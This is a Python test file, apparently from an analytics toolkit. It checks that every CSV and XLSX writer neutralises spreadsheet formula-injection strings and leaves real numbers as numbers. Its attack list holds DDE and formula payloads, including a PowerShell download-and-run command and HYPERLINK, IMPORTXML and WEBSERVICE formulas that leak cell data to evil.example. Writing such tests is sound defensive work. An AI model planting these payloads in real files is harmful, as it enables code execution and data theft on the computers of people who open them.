"""Every writer of the toolkit neutralises formula-like text and keeps real numbers numbers.

Each attack string is written through every CSV/XLSX writer (processed table, validation
report, indicator workbook, register template, demo workbook) and the file is read back.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from promis_analytics import demo, export
from promis_analytics.cli import cli
from promis_analytics.registers.out.template import write_template

ATTACKS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x.ps1)'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Звіт")',
    '=ГІПЕРПОСИЛАННЯ("http://evil.example";"Вінниця")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    'DDE("cmd";"/C calc";"x")',  # not a formula start: must stay as it is
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t",
    "\r\n-1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    '=IMAGE("http://evil.example/pixel.png")',
    "==1",
    "=-1",
    "-=1",
    "+=1",
    "=",
    "+",
    "-",
    "@",
    "'=1+1",  # already apostrophed: gets a second one, read back exactly
    "\uff1d1+1",  # full-width ＝
    "\uff0bcmd|' /C calc'!A0",  # full-width ＋
    "\uff0d2+3",  # full-width －
    "\uff20SUM(1+1)",  # full-width ＠
    "-5 тис. грн",
    "+380 67 000 00 00",
)
FORMULA_START = tuple(export.DANGEROUS_PREFIXES)
NUMBERS = (-5, -1.5, 0, 43.9, 2015)


def _expected(text: str, *, xlsx: bool = False) -> str:
    """The text as written: neutralised (XLSX keeps a bare CR: openpyxl writes it through lxml
    as a character reference, so round trips are exact in both formats)."""
    return export.neutralise(text)


def test_attack_list_is_long_and_neutralised() -> None:
    assert len(ATTACKS) >= 30
    for a in ATTACKS:
        if a.startswith(FORMULA_START) or (a.startswith("'") and a[1:].startswith(FORMULA_START)):
            assert export.neutralise(a) == "'" + a, a
        else:
            assert export.neutralise(a) == a


def _frame() -> pd.DataFrame:
    n = len(ATTACKS)
    return pd.DataFrame(
        {
            "text": list(ATTACKS),
            "number": [NUMBERS[i % len(NUMBERS)] for i in range(n)],
            "count": pd.array([i - 3 for i in range(n)], dtype="Int64"),
        }
    )


def _check_xlsx_cells(path: Path, texts: set[str]) -> list[object]:
    """No cell is a formula; no text cell starts a formula; return every cell value."""
    values: list[object] = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_START), (c.coordinate, c.value)
                values.append(c.value)
    for t in texts:
        assert _expected(t, xlsx=True) in values, t
    return values


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_processed_table_writer(tmp_path: Path, suffix: str) -> None:
    p = export.write(_frame(), tmp_path / f"events{suffix}")
    if suffix == ".csv":
        with p.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert rows[0] == ["text", "number", "count"]
        for row, attack, i in zip(rows[1:], ATTACKS, range(len(ATTACKS)), strict=True):
            assert row[0] == _expected(attack)
            assert float(row[1]) == NUMBERS[i % len(NUMBERS)]  # a number, not '-5
            assert int(row[2]) == i - 3
    else:
        values = _check_xlsx_cells(p, set(ATTACKS))
        ws = openpyxl.load_workbook(p).active
        for i in range(len(ATTACKS)):
            assert ws.cell(row=i + 2, column=2).value == NUMBERS[i % len(NUMBERS)]
            assert ws.cell(row=i + 2, column=2).data_type == "n"
            assert ws.cell(row=i + 2, column=3).value == i - 3
        assert -5 in values


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_validation_report_writer(tmp_path: Path, suffix: str) -> None:
    """Attack strings in a register become problem values in the report, neutralised there."""
    lines = ["event_id,title,event_type,date_start,city,participants,source,locator"]
    for i, a in enumerate(ATTACKS):
        cell = '"' + a.replace('"', '""') + '"'
        lines.append(f"E{i},{cell},seminar,2018-10-02,{cell},{cell},card,s{i}")
    src = tmp_path / "events.csv"
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / f"report{suffix}"
    res = CliRunner().invoke(cli, ["validate", str(src), "--lang", "en", "--report", str(out)])
    assert res.exit_code == 1, res.output
    if suffix == ".xlsx":
        values = _check_xlsx_cells(out, set())
    else:
        with out.open(encoding="utf-8", newline="") as fh:
            values = [v for row in csv.reader(fh) for v in row]
        assert not any(v.startswith(FORMULA_START) for v in values)
    # the first ten attacks are reported as unreadable participant counts, value neutralised
    for a in ATTACKS[:10]:
        assert _expected(a) in values, a
    assert values.count("participants") >= len(ATTACKS) - 3


def test_indicator_report_writer(tmp_path: Path) -> None:
    from promis_analytics.pipeline.workbook import write_indicator_report

    table = pd.DataFrame(
        {
            "city": list(ATTACKS),
            "participants": [i for i in range(len(ATTACKS))],
            "share_pct": [43.9 - i for i in range(len(ATTACKS))],
        }
    )
    p = write_indicator_report(
        {"participants": table}, tmp_path / "indicators.xlsx", sources={"card": "=cmd|x"}
    )
    values = _check_xlsx_cells(p, set(ATTACKS) | {"=cmd|x"})
    assert 43.9 - 5 in values and 7 in values


def test_template_writer(tmp_path: Path) -> None:
    rows = [{"event_id": f"E{i}", "title": a, "participants": -i} for i, a in enumerate(ATTACKS)]
    p = write_template("events", tmp_path / "events_template.xlsx", rows)
    values = _check_xlsx_cells(p, set(ATTACKS))
    assert -4 in values  # a real negative number stays a number


def test_demo_workbook_writer(tmp_path: Path) -> None:
    df = pd.DataFrame({"title": list(ATTACKS), "participants": range(len(ATTACKS))})
    p = demo._write_xlsx(df, tmp_path / "events.xlsx", "events")
    values = _check_xlsx_cells(p, set(ATTACKS))
    assert 5 in values


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_written_attacks_read_back_exactly_through_the_reader(tmp_path: Path, suffix: str) -> None:
    """The apostrophe is the only change: the toolkit's reader gives the original text back."""
    from promis_analytics.registers.io.formats import read_table

    p = export.write(_frame(), tmp_path / f"x{suffix}")
    t = read_table(p)
    got = [r.cells[0] for r in t.rows[1:]]
    assert got == list(ATTACKS)
